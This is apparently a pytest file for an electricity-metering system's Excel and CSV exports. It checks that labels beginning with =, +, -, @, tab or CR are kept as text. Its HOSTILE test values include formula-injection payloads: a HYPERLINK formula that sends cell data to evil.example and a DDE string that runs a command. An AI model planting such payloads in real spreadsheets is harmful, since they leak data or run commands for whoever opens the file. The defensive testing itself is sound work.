"""Spreadsheet exports: text that looks like a formula stays text (no formula injection)."""
from __future__ import annotations

import csv
import io
from typing import Any

import aiohttp
import pytest
from openpyxl import load_workbook

from scada_core.reports.cells import csv_cell, from_csv_cell
from scada_core.reports.excel import table_to_xlsx
from scada_core.reports.table import Table

from tests.helpers import until, wait_for

from .conftest import WebEnv

M1, M2 = "acrel_dtsy1352.b1_f2_m1", "acrel_dtsy1352.b1_f2_m2"
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1")


@pytest.mark.timeout(90)
async def test_formula_like_labels_and_names_export_as_text(start_web: Any) -> None:
    """Labels and account names starting with = + - @ tab CR are text cells in .xlsx and quoted in the CSV."""
    env: WebEnv = await start_web(units=2)
    await env.operator("boss", "admin")
    client, csrf = await env.login("boss")
    for entity_id, label in ((M1, HOSTILE[0]), (M2, HOSTILE[3])):
        async with client.post(env.base + "/admin/settings", data={
                "csrf": csrf, "action": "edit", "entity_id": entity_id, "floor": "-1", "room": "+86", "label": label},
                allow_redirects=False) as resp:
            assert resp.status == 302, await resp.text()
    await env.site.billing.open_account(HOSTILE[1], [M1], {"id": "boss", "role": "admin"})

    async with client.post(env.base + "/web/export/readings", data={"csrf": csrf, "entity_ids": f"{M1},{M2}"}) as resp:
        assert resp.status == 200
        sheet = load_workbook(io.BytesIO(await resp.read())).active
    labels = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for entity_id, label in ((M1, HOSTILE[0]), (M2, HOSTILE[3])):
        assert labels[entity_id].data_type == "s" and labels[entity_id].value == label

    env.site.grid.invalidate()
    await env.core.services.async_call("acrel_dtsy1352", "trip", {"entity_id": M1})
    async with client.get(env.base + "/reports?kind=alarms_now&format=xlsx") as resp:
        assert resp.status == 200
        sheet = load_workbook(io.BytesIO(await resp.read())).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in sheet._cells.values() if c.data_type == "f"]  # noqa: SLF001
    shown = {c.value: c.data_type for c in cells}
    assert shown[HOSTILE[0]] == "s" and shown[HOSTILE[1]] == "s"

    async with client.get(env.base + "/admin/settings/template.csv") as resp:
        rows = {r[0]: r for r in csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig")))}
    assert rows[M1][1:] == ["'-1", "'+86", "'" + HOSTILE[0]]
    assert rows[M2][3] == "'" + HOSTILE[3]

    # The template comes back in unchanged: the quote that kept the text a text is not part of the label.
    out = io.StringIO()
    csv.writer(out).writerows([rows["entity_id"], rows[M1], rows[M2]])
    form = aiohttp.FormData()
    form.add_field("csrf", csrf)
    form.add_field("action", "preview")
    form.add_field("sheet", out.getvalue().encode(), filename="meters.csv")
    async with client.post(env.base + "/admin/settings", data=form) as resp:
        assert resp.status == 200
    [previewed] = list(env.site.pending_imports.values())
    assert {r["entity_id"]: (r["floor"], r["room"], r["label"]) for r in previewed} == {
        M1: ("-1", "+86", HOSTILE[0]), M2: ("-1", "+86", HOSTILE[3])}

@pytest.mark.parametrize("text", HOSTILE)
def test_every_trigger_is_kept_as_text(text: str) -> None:
    """The one cell helper: xlsx keeps the exact text as a string cell; CSV prefixes the quote and reads it back."""
    sheet = load_workbook(io.BytesIO(table_to_xlsx(Table("t", ["a"], [[text]])))).active
    # XML: a raw CR reads as LF, so OOXML stores it as the escape _x000D_ (Excel reads a CR back; openpyxl's
    # reader of inline strings leaves the escape as it is).
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value in (text, text.replace("\r", "\n"), text.replace("\r", "_x000D_"))
    assert csv_cell(text) == "'" + text and from_csv_cell(csv_cell(text)) == text
    assert csv_cell("商铺 301") == "商铺 301" and csv_cell(12) == 12


@pytest.mark.timeout(90)
async def test_the_readings_export_says_where_whose_and_how_each_meter_is(start_web: Any) -> None:
    """抄表导出 carries each meter's place, shop, status in words, relay and mode, the three phases' U and I,
    P, PF, Hz, the money left and the kWh registers (numbers stay numbers)."""
    env: WebEnv = await start_web(units=2)
    await env.operator("boss", "admin")
    client, csrf = await env.login("boss")
    billing = env.site.billing
    await billing.open_account("一楼花店", [M1], {"id": "boss", "role": "admin"})
    await billing.sell(M1, 12345, "cash", "readings-export-sale", {"id": "boss", "role": "admin"})
    await wait_for(lambda: env.core.states.get(M1).attributes.get("remaining_fen") == 12345, what="money on m1")

    async def status_of_m1() -> str:
        env.site.grid.invalidate()
        return next(r[6] for r in (await env.site.grid.data())["rows"] if r[0] == M1)

    await until(status_of_m1, lambda status: status == "opened")  # the arrears level left with the sale
    async with client.post(env.base + "/web/export/readings", data={"csrf": csrf, "entity_ids": f"{M1},{M2}"}) as resp:
        assert resp.status == 200
        rows = list(load_workbook(io.BytesIO(await resp.read())).active.iter_rows(values_only=True))
    header = rows[0]
    assert header[:9] == ("表计", "名称", "楼宇", "楼层", "房间", "商铺", "状态", "继电器", "控制模式")
    assert header[9:18] == ("Ua(V)", "Ub(V)", "Uc(V)", "Ia(A)", "Ib(A)", "Ic(A)", "功率(W)", "功率因数", "频率(Hz)")
    assert header[18:20] == ("剩余金额(元)", "总电能(kWh)")
    m1 = dict(zip(header, rows[1]))
    assert (m1["表计"], m1["楼宇"], m1["楼层"], m1["商铺"], m1["状态"]) == (M1, "b1", "2F", "一楼花店", "开户")
    assert (m1["继电器"], m1["控制模式"]) == ("合闸", "预付费")
    assert all(210 <= m1[u] <= 240 for u in ("Ua(V)", "Ub(V)", "Uc(V)"))
    assert isinstance(m1["Ia(A)"], int | float) and isinstance(m1["频率(Hz)"], int | float)
    assert m1["剩余金额(元)"] == 123.45 and isinstance(m1["总电能(kWh)"], int | float)
    m2 = dict(zip(header, rows[2]))
    assert m2["状态"] == "未开户" and m2["商铺"] in ("", None)
